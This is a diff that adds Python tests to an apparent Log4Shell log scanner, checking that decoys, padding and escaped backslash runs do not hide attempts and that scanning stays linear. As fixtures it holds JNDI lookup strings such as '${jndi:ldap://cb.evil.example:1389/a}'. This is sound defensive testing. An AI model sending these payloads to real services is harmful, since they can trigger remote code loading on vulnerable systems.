@@ -7,14 +7,16 @@ import bz2
 import gzip
 import io
 import lzma
+import random
 import re
 import time
 import zipfile
+from itertools import accumulate
 from pathlib import Path
 
 import pytest
 import zstandard
-from bench.scan_logs_corpus import attempts, benign_lines
+from bench.scan_logs_corpus import BENIGN_DOLLAR, ENCODINGS, attempts, benign_lines, encode, payload
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -226,6 +228,17 @@ def test_the_linear_finder_agrees_with_the_quadratic_one(data: bytes) -> None:
     assert candidate_starts(data) == quadratic_candidate_starts(data)
 
 
+# Runs of "${" (taken at once) beside the other candidates and their pieces.
+DOLLAR_BRACE_RUN = st.integers(1, 8).map(lambda n: b"${" * n)
+RUNS_TEXT = st.lists(st.one_of(DOLLAR_BRACE_RUN, RUN, DOLLAR, BRACE, NOISE), max_size=40)
+
+
+@settings(max_examples=500, database=None)
+@given(RUNS_TEXT.map(b"".join))
+def test_the_finder_agrees_with_the_quadratic_one_on_runs_of_dollar_braces(data: bytes) -> None:
+    assert candidate_starts(data) == quadratic_candidate_starts(data)
+
+
 def test_a_decimal_reference_too_long_for_int_does_not_stop_the_file() -> None:
     # html.unescape raised ValueError on it (int's 4,300-digit limit): the file became a
     # problem and no attempt after the line was reported.
@@ -233,3 +246,104 @@ def test_a_decimal_reference_too_long_for_int_does_not_stop_the_file() -> None:
     scan = stream(decoy + ATTACK)
     assert scan.problems == []
     assert [(f.line, f.payload.host) for f in scan.findings] == [(2, "cb.evil.example")]
+
+
+# --- every candidate of a line is read, however far from the first ----------------------------
+# Before: 8,192 characters after a line's first candidate were decoded, so a decoy "${x}" and
+# padding, or a longer run of backslashes, hid the attempt behind it.
+
+MIB = 1024 * 1024
+CALLBACK = b"${jndi:ldap://cb.evil.example:1389/a}"
+
+
+def callbacks(scan: LogScan) -> list[tuple[int, str | None, str | None, int | None]]:
+    return [(f.line, f.payload.protocol, f.payload.host, f.payload.port) for f in scan.findings]
+
+
+def test_an_attempt_behind_a_decoy_and_9000_spaces_is_found_on_its_line() -> None:
+    line = b'1.2.3.4 - - "GET /?q=${x}' + b" " * 9000 + CALLBACK + b' HTTP/1.1" 200 1\n'
+    data = BENIGN + line + BENIGN
+    scan = stream(data)
+    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
+    (finding,) = scan.findings
+    assert finding.offset == data.index(CALLBACK)
+    assert finding.excerpt == line[line.index(CALLBACK) : -1].decode()  # to the line end
+    assert finding.payload.decoded == "${jndi:ldap://cb.evil.example:1389/a}"
+
+
+@pytest.mark.parametrize("run", [8_000, 9_000, 200 * 1024])
+def test_an_escaped_attempt_behind_a_run_longer_than_the_old_window_is_found(run: int) -> None:
+    line = b'{"msg":"' + b"\\" * run + b'u0024{jndi:ldap://cb.evil.example:1389/a}"}\n'
+    data = BENIGN * 2 + line + BENIGN
+    started = time.perf_counter()
+    scan = stream(data)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
+    assert callbacks(scan) == [(3, "ldap", "cb.evil.example", 1389)]
+    assert scan.findings[0].offset == data.index(b"\\")  # the run's first backslash, as before
+
+
+@pytest.mark.parametrize("padding", [1, 9_000])
+def test_a_megabyte_line_of_decoys_is_scanned_in_linear_time_to_the_attempt_at_its_end(
+    padding: int,
+) -> None:
+    decoys = b"${x}" + b" " * padding
+    line = decoys * ((MIB - len(CALLBACK)) // len(decoys)) + CALLBACK + b"\n"
+    started = time.perf_counter()
+    scan = stream(BENIGN + line)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
+    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
+    assert scan.findings[0].offset == len(BENIGN) + line.index(CALLBACK)
+
+
+def test_a_megabyte_line_of_dollar_braces_is_scanned_in_linear_time() -> None:
+    # 2.7 s per 8 MB before (each "${" a turn of the finder's loop); a run is now one match.
+    flood = b"${" * (MIB // 2)
+    data = flood + b"\n" + flood + CALLBACK + b"\n" + BENIGN
+    started = time.perf_counter()
+    scan = stream(data)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
+    # inside 2**19 unclosed lookups (deeper than MAX_DEPTH): reported at the outermost one
+    assert callbacks(scan) == [(2, "ldap", "cb.evil.example", 1389)]
+    assert scan.findings[0].offset == len(flood) + 1
+    assert scan.lines == 3
+
+
+def test_every_attempt_of_a_megabyte_line_of_them_is_reported_in_linear_time() -> None:
+    attempts_on_line = [b"${jndi:ldap://h%d.evil.example/a} " % n for n in range(30_000)]
+    line = b"".join(attempts_on_line) + b"\n"
+    assert len(line) > MIB - 100_000
+    started = time.perf_counter()
+    scan = stream(line)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
+    assert [f.payload.host for f in scan.findings] == [f"h{n}.evil.example" for n in range(30_000)]
+    assert [f.offset for f in scan.findings] == [0, *accumulate(map(len, attempts_on_line[:-1]))]
+
+
+UNCLOSED = ["${", "\\u0024{", "${jndi"]  # an attempt inside one is reported at the decoy
+DECOYS = st.sampled_from(["", "${x}", "$%7Bx%7D", "%24%7Bx%7D", *UNCLOSED, *BENIGN_DOLLAR])
+
+
+@settings(max_examples=200, database=None, deadline=None)
+@given(
+    seed=st.integers(0, 2**32 - 1),
+    encoding=st.sampled_from(ENCODINGS),
+    decoy=DECOYS,
+    spaces=st.one_of(st.integers(0, 20_000), st.sampled_from([8_180, 8_192, 8_200, 9_000])),
+)
+def test_padding_or_a_decoy_before_an_attempt_on_its_line_never_hides_it(
+    seed: int, encoding: str, decoy: str, spaces: int
+) -> None:
+    rng = random.Random(seed)
+    text, host = payload(rng)
+    attack = encode(rng, text, encoding)
+    alone = stream(f'"GET /?q={attack} HTTP/1.1"\n'.encode())
+    assert [f.payload.host for f in alone.findings] == [host]
+    before = f'"GET /?q={decoy}{" " * spaces}'.encode()
+    scan = stream(BENIGN + before + f'{attack} HTTP/1.1"\n'.encode() + BENIGN)
+    assert [(f.line, f.payload) for f in scan.findings] == [(2, alone.findings[0].payload)]
+    at = len(b'"GET /?q=') if decoy in UNCLOSED else len(before)
+    assert scan.findings[0].offset == len(BENIGN) + at
